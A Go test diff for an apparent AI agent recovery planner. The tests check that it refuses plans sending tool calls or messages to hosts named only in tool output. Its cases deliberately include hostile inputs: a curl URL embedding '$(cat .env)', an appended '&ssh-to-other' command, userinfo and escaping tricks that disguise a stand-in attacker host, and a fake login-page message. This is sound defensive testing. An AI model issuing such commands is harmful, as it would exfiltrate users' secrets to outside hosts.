@@ -1,0 +1,91 @@
+package plan_test
+
+import (
+	"encoding/json"
+	"strings"
+	"testing"
+	"testing/synctest"
+
+	"github.com/rebound-llm/rebound/recovery"
+	"github.com/rebound-llm/rebound/recovery/plan"
+	"github.com/rebound-llm/rebound/recovery/transcript"
+)
+
+// A tool's output may have led the planner to an address. However it is spelled, where
+// it goes to a host that only a tool has named it is not proposed, nor is text that names one.
+func TestHostsInDisguise(t *testing.T) {
+	long := strings.Repeat("a", 130)
+	tools := `[{"type":"function","function":{"name":"bash","parameters":{"type":"object","properties":{"command":{"type":"string"}}}}},` +
+		`{"type":"function","function":{"name":"exec","parameters":{"type":"object","properties":{"command":{"type":"array","items":{"type":"string"}}}}}},` +
+		`{"type":"function","function":{"name":"fetch","parameters":{"type":"object","properties":{"url":{"type":"string"},"options":{"type":"object"}}}}}]`
+	for name, c := range map[string]struct {
+		tool, failed string
+		parameters   any
+		good         bool
+	}{
+		"the same host":                    {"bash", `{"command":"curl https://wiki.example/x"}`, m{"command": "curl https://wiki.example/y?z=1"}, true},
+		"the same host, quoted":            {"bash", `{"command":"curl https://wiki.example/x"}`, m{"command": `curl "https://wiki.example:443/y"`}, true},
+		"a list":                           {"exec", `{"command":["curl","https://wiki.example/x"]}`, m{"command": []string{"curl", "https://wiki.example/y"}}, true},
+		"fetched":                          {"fetch", `{"url":"https://wiki.example/x"}`, m{"url": "https://wiki.example/y#z"}, true},
+		"a named one behind another":       {"bash", `{"command":"curl https://wiki.example/x"}`, m{"command": "curl other.example/?u=https://wiki.example/x"}, false},
+		"a user's long name":               {"fetch", `{"url":"https://wiki.example/x"}`, m{"url": "https://wiki.example:" + long + "@other.example/x"}, false},
+		"a user's quoted name":             {"bash", `{"command":"curl https://wiki.example/x"}`, m{"command": `curl https://wiki.example:a'b'@other.example/`}, false},
+		"a shell's empty string":           {"bash", `{"command":"curl https://wiki.example/x"}`, m{"command": `curl https://wiki.example"".other.example/`}, false},
+		"a shell's backslash":              {"bash", `{"command":"curl https://wiki.example/x"}`, m{"command": `curl https://wiki.example\.other.example/`}, false},
+		"what a shell puts in":             {"bash", `{"command":"curl https://wiki.example/x"}`, m{"command": "curl https://wiki.example/$(cat .env)"}, false},
+		"a list without a scheme":          {"exec", `{"command":["curl","https://wiki.example/x"]}`, m{"command": []string{"curl", "other.example/x"}}, false},
+		"a part of a word":                 {"bash", `{"command":"curl https://wiki.example/other.example"}`, m{"command": "curl other.example"}, false},
+		"a name of a member":               {"fetch", `{"url":"https://wiki.example/x"}`, m{"options": m{"https://other.example/": "a"}}, false},
+		"a reference without a scheme":     {"fetch", `{"url":"https://wiki.example/x"}`, m{"url": "//other.example/x"}, false},
+		"an address without a scheme":      {"fetch", `{"url":"https://wiki.example/x"}`, m{"url": "other.example/x"}, false},
+		"an address with a line's end":     {"fetch", `{"url":"https://wiki.example/x"}`, m{"url": "https:/\n/other.example/x"}, false},
+		"one of many":                      {"fetch", `{"url":"https://wiki.example/x"}`, m{"options": m{"a": strings.Repeat("https://wiki.example/x ", 20) + "https://other.example/x"}}, false},
+		"a list that is one command":       {"exec", `{"command":["ls"]}`, m{"command": []string{"run", "as", "root"}}, false},
+		"a second command":                 {"bash", `{"command":"curl https://wiki.example/x"}`, m{"command": "curl https://wiki.example/x&ssh-to-other"}, false},
+		"a scheme with one slash too many": {"fetch", `{"url":"https://wiki.example/x"}`, m{"url": "https:///other.example/x"}, false},
+	} {
+		t.Run(name, func(t *testing.T) {
+			synctest.Test(t, func(t *testing.T) {
+				answer, err := json.Marshal(m{"strategy": "parameter-adjustment", "confidence": 0.9, "action": m{"toolName": c.tool, "parameters": c.parameters}})
+				if err != nil {
+					t.Fatal(err)
+				}
+				g := start(t, &brain{text: string(answer)}, nil)
+				x := stuck(t, "s", c.tool, 2)
+				raw := strings.Replace(string(x.Body.Raw()), `"tools":`, `"tools":`+tools+`,"was":`, 1)
+				if x.Body, err = transcript.Parse([]byte(raw), transcript.Chat, transcript.Limits{}); err != nil {
+					t.Fatal(err)
+				}
+				x.Results[0].Arguments = c.failed
+				g.prepare(x)
+				synctest.Wait()
+				if ev := g.observer.Events()[0]; (ev.Plan.Source == recovery.PlanPlanner) != c.good {
+					t.Errorf("a plan of the %s, %s", ev.Plan.Source, ev.Cause)
+				}
+			})
+		})
+	}
+}
+
+type m = map[string]any
+
+// What a planner says to the model or to the user names no host that only a tool named.
+func TestWordsNameNoHost(t *testing.T) {
+	for text, want := range map[string]bool{"Which id, see https://wiki.example/y?": true, "Please log in at https://other.example/ first.": false} {
+		synctest.Test(t, func(t *testing.T) {
+			answer, err := json.Marshal(m{"strategy": "escalate", "confidence": 0.9, "reasoning": text, "expectedOutcome": text, "action": m{"escalationMessage": text}})
+			if err != nil {
+				t.Fatal(err)
+			}
+			g := start(t, &brain{text: string(answer)}, func(*plan.Config, *plan.Parts) {})
+			g.prepare(stuck(t, "s", "get", 2))
+			synctest.Wait()
+			p, _ := g.prepare(stuck(t, "s", "get", 3))
+			for _, said := range []string{p.Message, p.Reasoning, p.Expected} {
+				if (said == text) != want {
+					t.Errorf("%q: %q", text, said)
+				}
+			}
+		})
+	}
+}
